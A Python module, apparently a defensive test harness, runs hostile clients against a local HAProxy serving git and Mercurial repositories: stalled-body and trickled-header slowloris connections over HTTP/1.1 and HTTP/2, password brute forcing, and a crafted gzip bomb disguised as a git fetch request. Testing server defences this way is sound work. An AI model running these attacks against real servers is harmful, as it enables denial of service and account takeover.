"""The hostile clients of ``make attack``, on one asyncio loop in a thread.

Each attacker connects from loopback source addresses of its own: Linux
routes all of 127.0.0.0/8 to the loopback interface, so binding a socket to
127.x.y.z before connecting gives HAProxy a distinct client address with no
network setup. What they do:

- **stalled**: TLS handshake, then the headers of a POST to a git
  ``git-upload-pack`` or an hg ``?cmd=unbundle`` URL announcing a body of
  1 MiB, a few bytes of it, and nothing more; over HTTP/1.1 and HTTP/2
  (several stalled streams per connection);
- **trickle**: a request line and then one header line every few seconds,
  never the blank line that ends the headers;
- **guess**: wrong passwords for real and for unknown accounts;
- **bomb**: a git fetch request of ~100 KiB, gzip-compressed, that inflates
  about 1000:1 into a valid request (the same "want" line, padded with an
  unknown capability to the longest pkt-line, 1600 times), so a server
  that inflates it all also serves it.

Each attempt ends in one :class:`Outcome`. A slot whose connection ends
opens a new one, until :meth:`Attack.stop` (or ``max_seconds``, or
``max_attempts`` per slot): every loop stops by itself. ::

    attack = Attack(Target("127.0.0.1", 8443, ca, git_path, hg_path, ...), FULL)
    attack.start()
    ...                     # the legitimate load
    results = attack.stop() # attempts by attacker and outcome
"""

from __future__ import annotations

import asyncio
import base64
import enum
import socket
import ssl
import threading
import time
import zlib
from collections import Counter
from collections.abc import Awaitable, Callable, Iterable
from dataclasses import dataclass
from pathlib import Path

import h2.config
import h2.connection
import h2.events
import h2.exceptions

#: A body announced and never sent; git's own fetch requests are smaller.
ANNOUNCED = 1 << 20
#: An attempt that lasted this long after its last byte and then lost its
#: connection was cut off by a deadline, not refused on arrival.
DEADLINE_AFTER = 2.0
#: A stalling slot's pause before reconnecting, doubled while it is refused on arrival.
MIN_BACKOFF, MAX_BACKOFF = 0.1, 5.0
#: Waiting for any single answer (a guess, a bomb's response, a handshake).
ANSWER_TIMEOUT = 60.0
GIT_UA = "git/2.39.5"
#: Linux's IP_BIND_ADDRESS_NO_PORT (<linux/in.h>), not in Python's socket module before 3.12.
IP_BIND_ADDRESS_NO_PORT = getattr(socket, "IP_BIND_ADDRESS_NO_PORT", 24)
HG_UA = "mercurial/proto-1.0 (Mercurial 6.3)"


class Outcome(enum.Enum):
    """How one attacker attempt ended, from the attacker's side."""

    THROTTLED = "throttled"  # 429
    REFUSED = "refused"  # another 4xx, or the connection refused or reset on arrival
    TIMED_OUT = "timed out"  # 408, or closed by the server after a deadline
    HELD = "held"  # still open, unanswered, when the attack stopped
    SERVED = "SERVED"  # 2xx/3xx: the server did what the attacker asked
    ERROR = "5xx"  # the server failed (a pool down, a crash)


def classify(status: int | None, idle: float) -> Outcome:
    """The outcome of an attempt that got ``status`` (None: the connection
    ended without an answer ``idle`` seconds after the attacker's last byte)."""
    if status is None:
        return Outcome.TIMED_OUT if idle >= DEADLINE_AFTER else Outcome.REFUSED
    if status == 429:
        return Outcome.THROTTLED
    if status == 408:
        return Outcome.TIMED_OUT
    if 400 <= status < 500:
        return Outcome.REFUSED
    if status >= 500:
        return Outcome.ERROR
    return Outcome.SERVED


@dataclass(frozen=True, slots=True)
class Target:
    """The stack under attack: HAProxy's HTTPS address, its CA, and what to ask for."""

    host: str
    port: int
    ca_file: Path
    git_paths: tuple[str, ...]  # .../git-upload-pack of private and public repositories
    hg_paths: tuple[str, ...]  # ...?cmd=unbundle
    bomb_path: str  # git-upload-pack of a public repository...
    bomb_want: str  # ...and a commit in it
    guess_path: str  # an info/refs URL that needs credentials
    real_users: tuple[str, ...]


@dataclass(frozen=True, slots=True)
class Plan:
    """How many of each attacker; the numbers of the issue are :data:`FULL`."""

    one_address_h1: int = 140  # stalled HTTP/1.1 connections from ONE_ADDRESS
    one_address_trickle: int = 40
    one_address_h2: int = 20  # HTTP/2 connections...
    h2_streams: int = 4  # ...each with this many stalled streams
    many_addresses: int = 50
    per_address: int = 4
    guess_addresses: int = 4
    guessers_per_address: int = 10
    guess_rate: float = 40.0  # guesses per second, all addresses together
    bomb_addresses: int = 2
    bomb_inflated: int = 100 << 20
    trickle_every: float = 3.0
    max_seconds: float = 600.0
    max_attempts: int = 2000  # per slot

    @property
    def one_address_connections(self) -> int:
        return self.one_address_h1 + self.one_address_trickle + self.one_address_h2


FULL = Plan()
SHORT = Plan(one_address_h1=30, one_address_trickle=8, one_address_h2=4, h2_streams=3, many_addresses=10,
             per_address=3, guess_addresses=2, guess_rate=20.0, bomb_addresses=1, bomb_inflated=50 << 20)

ONE_ADDRESS = "127.0.0.2"


def many_address(index: int) -> str:
    """The ``index``-th (0-based) of the addresses holding a few connections each."""
    return f"127.0.1.{index + 1}"


def guess_address(index: int) -> str:
    return f"127.0.2.{index + 1}"


def bomb_address(index: int) -> str:
    return f"127.0.3.{index + 1}"


_PKT_MAX = 65520  # git's LARGE_PACKET_MAX, the length prefix included


def _pkt(line: str) -> bytes:
    return f"{len(line) + 4:04x}{line}".encode()


def who(address: str) -> str:
    """Which client an address belongs to in this scenario."""
    if address == ONE_ADDRESS:
        return "one address"
    prefixes = {"127.0.1.": "50 addresses", "127.0.2.": "brute force", "127.0.3.": "gzip bomb"}
    return next((name for prefix, name in prefixes.items() if address.startswith(prefix)), "legitimate")


def gzip_bomb(inflated: int, want: str) -> bytes:
    """A gzip-compressed upload-pack request of about ``inflated`` bytes: "want
    ``want`` xxx...", a pkt-line of the largest size (upload-pack ignores
    capabilities it does not know), over and over, then "done". Deflate
    reaches ~1000:1 on it only because the padding repeats at distance 1."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    head = f"want {want} "
    line = _pkt(head + "x" * (_PKT_MAX - 4 - len(head) - 1) + "\n")
    parts = [packer.compress(line) for _ in range(max(inflated // len(line), 1))]
    parts += [packer.compress(b"0000" + _pkt("done\n")), packer.flush()]
    return b"".join(parts)


#: One attempt: ``(name, source, arg, n)``; records its outcome and raises :class:`_Ended`.
_Attempt = Callable[[str, str, str, int], Awaitable[None]]


def _h2_status(headers: Iterable[tuple[object, object]]) -> int | None:
    for key, value in headers:
        if key in (b":status", ":status"):
            text = value.decode() if isinstance(value, bytes) else str(value)
            return int(text) if text.isdigit() else None
    return None


def _refusal(error: OSError) -> str:
    if isinstance(error, ConnectionRefusedError):
        return "connection refused"
    if isinstance(error, ConnectionResetError | ConnectionAbortedError | BrokenPipeError):
        return "reset on arrival"
    if isinstance(error, ssl.SSLError):
        return "TLS handshake failed"
    return type(error).__name__


class _Ended(Exception):
    """The attempt is over; its outcome is already recorded."""


class Attack:
    """The attack of a :class:`Plan` against a :class:`Target`; see the module docstring."""

    def __init__(self, target: Target, plan: Plan) -> None:
        self.target = target
        self.plan = plan
        self.outcomes: Counter[tuple[str, Outcome]] = Counter()
        self.statuses: Counter[tuple[str, str]] = Counter()  # what the server said, or did, by attacker
        self.answered: dict[str, list[float]] = {}  # seconds from the last byte sent to the answer or close
        self.open_now = 0  # stalled connections currently open (the ramp-up)
        self.errors: Counter[str] = Counter()  # the attackers' own failures (bugs), never the server's answers
        self._loop: asyncio.AbstractEventLoop | None = None
        self._main: asyncio.Task[None] | None = None
        self._thread = threading.Thread(target=self._run, name="attack", daemon=True)
        self._started = threading.Event()
        self._contexts: dict[str, ssl.SSLContext] = {}
        self._bomb = gzip_bomb(plan.bomb_inflated, target.bomb_want) if plan.bomb_addresses else b""

    # --- Life cycle (called from the scenario's thread) -----------------------------

    def start(self) -> None:
        self._thread.start()
        self._started.wait(30)

    def stop(self, timeout: float = 60.0) -> Counter[tuple[str, Outcome]]:
        """Cancel every attacker (open attempts count as :attr:`Outcome.HELD`); the outcomes."""
        loop, main = self._loop, self._main
        if loop is not None and main is not None and not loop.is_closed():
            loop.call_soon_threadsafe(main.cancel)
        self._thread.join(timeout)
        return self.outcomes

    def _run(self) -> None:
        asyncio.run(self._attack())

    async def _attack(self) -> None:
        self._loop = asyncio.get_running_loop()
        self._main = asyncio.current_task()
        self._started.set()
        plan, target = self.plan, self.target
        slots = []
        for i in range(plan.one_address_h1):
            paths = target.git_paths if i % 2 == 0 else target.hg_paths
            slots.append(self._slot("one address: stalled body, HTTP/1.1", self._stalled_h1, ONE_ADDRESS,
                                    paths[i // 2 % len(paths)]))
        for i in range(plan.one_address_trickle):
            slots.append(self._slot("one address: trickled headers", self._trickle, ONE_ADDRESS,
                                    target.git_paths[i % len(target.git_paths)]))
        for i in range(plan.one_address_h2):
            slots.append(self._slot("one address: stalled streams, HTTP/2", self._stalled_h2, ONE_ADDRESS,
                                    target.git_paths[i % len(target.git_paths)]))
        for a in range(plan.many_addresses):
            for i in range(plan.per_address):
                paths = target.git_paths if i % 2 == 0 else target.hg_paths
                slots.append(self._slot(f"{plan.many_addresses} addresses: stalled body", self._stalled_h1,
                                        many_address(a), paths[a % len(paths)]))
        guessers = plan.guessers_per_address * plan.guess_addresses
        for g in range(guessers):
            slots.append(self._slot("brute force: real accounts" if g % 2 == 0 else "brute force: unknown accounts",
                                    self._guess, guess_address(g % plan.guess_addresses), str(g),
                                    pace=guessers / plan.guess_rate))
        for b in range(plan.bomb_addresses):
            slots.append(self._slot("gzip bomb", self._bomb_request, bomb_address(b), target.bomb_path))
        tasks = [asyncio.create_task(slot) for slot in slots]
        try:
            await asyncio.wait(tasks, timeout=plan.max_seconds)
        except asyncio.CancelledError:
            pass
        finally:
            for task in tasks:
                task.cancel()
            await asyncio.gather(*tasks, return_exceptions=True)

    async def _slot(self, name: str, attempt: _Attempt, source: str, arg: str, pace: float = 0.0) -> None:
        """Run ``attempt`` again and again, each time it ends, within the plan's bounds.

        A guesser keeps its ``pace`` (seconds per attempt). A stalling slot
        reconnects at once after a connection that held, and backs off up to
        :data:`MAX_BACKOFF` while its connections are refused on arrival: a
        tight reconnect loop would mostly measure the attacker's own CPU on
        this shared machine, and a patient attacker holds as many slots.
        """
        backoff = MIN_BACKOFF
        for n in range(self.plan.max_attempts):
            began = time.monotonic()
            try:
                await attempt(name, source, arg, n)
            except _Ended:
                pass
            except TimeoutError:  # not even accepted within ANSWER_TIMEOUT
                self._end(name, Outcome.TIMED_OUT, label="connect timed out")
            except OSError as error:  # refused or reset on arrival, before TLS was done
                self._end(name, Outcome.REFUSED, label=_refusal(error))
            except Exception as error:  # an attacker's own bug: counted, never fatal to the others
                self.errors[f"{name}: {type(error).__name__}: {error}"] += 1
            took = time.monotonic() - began
            if pace:
                await asyncio.sleep(max(pace - took, 0.0))
            else:
                backoff = MIN_BACKOFF if took >= DEADLINE_AFTER else min(backoff * 2, MAX_BACKOFF)
                await asyncio.sleep(backoff)

    def _context(self, alpn: str) -> ssl.SSLContext:
        if alpn not in self._contexts:
            context = ssl.create_default_context(cafile=str(self.target.ca_file))
            context.set_alpn_protocols([alpn])
            self._contexts[alpn] = context
        return self._contexts[alpn]

    async def _open(self, source: str, alpn: str = "http/1.1") -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """A TLS connection from ``source`` (a loopback address) to the target."""
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        try:
            # Choose the source port at connect(), knowing the destination, as
            # an unbound socket does. Chosen at bind() instead, it can be one
            # whose previous connection to HAProxy is still in TIME_WAIT on
            # the server's side, and the kernel answers the SYN with a reset:
            # "connection refused" by our own reconnects, not by the server.
            sock.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
            sock.bind((source, 0))
            sock.setblocking(False)
            await asyncio.wait_for(asyncio.get_running_loop().sock_connect(sock, (self.target.host, self.target.port)),
                                   ANSWER_TIMEOUT)
        except BaseException:
            sock.close()
            raise
        # From here the transport owns the socket, and closes it if the handshake fails.
        return await asyncio.wait_for(
            asyncio.open_connection(sock=sock, ssl=self._context(alpn), server_hostname=self.target.host),
            ANSWER_TIMEOUT)

    def _end(self, name: str, outcome: Outcome, status: int | None = None, since: float | None = None,
             label: str = "closed, no answer") -> _Ended:
        """Record how an attempt ended (``status``, else ``label``); the exception that ends it."""
        self.outcomes[name, outcome] += 1
        self.statuses[name, str(status) if status is not None else label] += 1
        if since is not None:
            self.answered.setdefault(name, []).append(time.monotonic() - since)
        return _Ended()

    async def _status(self, name: str, reader: asyncio.StreamReader, since: float) -> _Ended:
        """Wait for the server's answer to what was sent by ``since``; classify it."""
        head = b""
        try:
            while b"\r\n" not in head and len(head) < 65536:
                data = await reader.read(65536)
                if not data:
                    break
                head += data
        except (OSError, ssl.SSLError):
            pass
        line = head.split(b"\r\n", 1)[0].split()
        status = int(line[1]) if len(line) > 1 and line[1].isdigit() else None
        return self._end(name, classify(status, time.monotonic() - since), status, since)

    async def _hold(self, name: str, reader: asyncio.StreamReader, writer: asyncio.StreamWriter,
                    since: float) -> None:
        """Hold a stalled connection until the server answers or closes it, or the attack ends."""
        self.open_now += 1
        try:
            raise await self._status(name, reader, since)
        except asyncio.CancelledError:
            self.outcomes[name, Outcome.HELD] += 1
            raise
        finally:
            self.open_now -= 1
            writer.close()

    def _host(self) -> str:
        return f"{self.target.host}:{self.target.port}"

    # --- The attempts ---------------------------------------------------------------

    async def _stalled_h1(self, name: str, source: str, path: str, _n: int) -> None:
        reader, writer = await self._open(source)
        if "cmd=" in path:
            head = (f"POST {path} HTTP/1.1\r\nHost: {self._host()}\r\nUser-Agent: {HG_UA}\r\n"
                    "Accept: application/mercurial-0.1\r\nContent-Type: application/mercurial-0.1\r\n"
                    "X-HgArg-1: heads=666f726365\r\n")
        else:
            head = (f"POST {path} HTTP/1.1\r\nHost: {self._host()}\r\nUser-Agent: {GIT_UA}\r\n"
                    "Content-Type: application/x-git-upload-pack-request\r\n"
                    "Accept: application/x-git-upload-pack-result\r\n")
        writer.write(f"{head}Content-Length: {ANNOUNCED}\r\n\r\n0032want ".encode())
        await writer.drain()
        await self._hold(name, reader, writer, time.monotonic())

    async def _trickle(self, name: str, source: str, path: str, _n: int) -> None:
        reader, writer = await self._open(source)
        writer.write(f"POST {path} HTTP/1.1\r\nHost: {self._host()}\r\n".encode())
        await writer.drain()
        self.open_now += 1
        sent = time.monotonic()
        answer = asyncio.create_task(self._status(name, reader, sent))
        try:
            for line in range(10_000):
                done, _ = await asyncio.wait({answer}, timeout=self.plan.trickle_every)
                if done:
                    raise answer.result()
                writer.write(f"X-Trickle-{line}: {'x' * 16}\r\n".encode())
                await writer.drain()
                sent = time.monotonic()
        except asyncio.CancelledError:
            answer.cancel()
            self.outcomes[name, Outcome.HELD] += 1
            raise
        except (OSError, ssl.SSLError) as error:  # reset while writing: the server gave up on it
            answer.cancel()
            raise self._end(name, classify(None, time.monotonic() - sent), None, sent) from error
        finally:
            self.open_now -= 1
            writer.close()

    async def _stalled_h2(self, name: str, source: str, path: str, _n: int) -> None:
        reader, writer = await self._open(source, "h2")
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        conn.initiate_connection()
        pending: set[int] = set()
        for _ in range(self.plan.h2_streams):
            stream = conn.get_next_available_stream_id()
            conn.send_headers(stream, [(":method", "POST"), (":scheme", "https"), (":authority", self._host()),
                                       (":path", path), ("user-agent", GIT_UA),
                                       ("content-type", "application/x-git-upload-pack-request"),
                                       ("content-length", str(ANNOUNCED))])
            conn.send_data(stream, b"0032want ")
            pending.add(stream)
        writer.write(conn.data_to_send())
        await writer.drain()
        since = time.monotonic()
        self.open_now += 1
        try:
            while pending:
                try:
                    data = await reader.read(65536)
                    events = conn.receive_data(data) if data else []
                except (OSError, ssl.SSLError, h2.exceptions.ProtocolError):
                    data, events = b"", []
                if not data:
                    break
                for event in events:
                    if isinstance(event, h2.events.ResponseReceived) and event.stream_id in pending:
                        pending.discard(event.stream_id)
                        status = _h2_status(event.headers or [])
                        self._end(name, classify(status, 0.0), status, since)
                    elif isinstance(event, h2.events.StreamReset) and event.stream_id in pending:
                        pending.discard(event.stream_id)
                        self._end(name, classify(None, time.monotonic() - since), None, since)
                    elif isinstance(event, h2.events.ConnectionTerminated):
                        data = b""
                writer.write(conn.data_to_send())
                if not data:
                    break
            for _ in pending:  # the connection ended under them
                self._end(name, classify(None, time.monotonic() - since), None, since)
            pending.clear()
        except asyncio.CancelledError:
            self.outcomes[name, Outcome.HELD] += len(pending)
            raise
        finally:
            self.open_now -= 1
            writer.close()
        raise _Ended()

    async def _guess(self, name: str, source: str, worker: str, n: int) -> None:
        """One wrong password: for a real account, or for one that does not exist."""
        users = self.target.real_users
        user = users[n % len(users)] if "real" in name else f"nobody{worker}x{n}"
        token = base64.b64encode(f"{user}:guess {worker}.{n}".encode()).decode()
        reader, writer = await self._open(source)
        try:
            writer.write(f"GET {self.target.guess_path} HTTP/1.1\r\nHost: {self._host()}\r\nUser-Agent: {GIT_UA}\r\n"
                         f"Authorization: Basic {token}\r\nConnection: close\r\n\r\n".encode())
            await writer.drain()
            raise await asyncio.wait_for(self._status(name, reader, time.monotonic()), ANSWER_TIMEOUT)
        except TimeoutError as error:
            raise self._end(name, Outcome.TIMED_OUT, label="no answer") from error
        finally:
            writer.close()

    async def _bomb_request(self, name: str, source: str, path: str, _n: int) -> None:
        reader, writer = await self._open(source)
        try:
            writer.write(f"POST {path} HTTP/1.1\r\nHost: {self._host()}\r\nUser-Agent: {GIT_UA}\r\n"
                         "Content-Type: application/x-git-upload-pack-request\r\nContent-Encoding: gzip\r\n"
                         f"Content-Length: {len(self._bomb)}\r\nConnection: close\r\n\r\n".encode())
            writer.write(self._bomb)
            await writer.drain()
            raise await asyncio.wait_for(self._status(name, reader, time.monotonic()), ANSWER_TIMEOUT)
        except TimeoutError as error:
            raise self._end(name, Outcome.TIMED_OUT, label="no answer") from error
        except (ConnectionError, ssl.SSLError) as error:  # reset while still uploading
            raise self._end(name, Outcome.REFUSED, label="reset while sending") from error
        finally:
            writer.close()

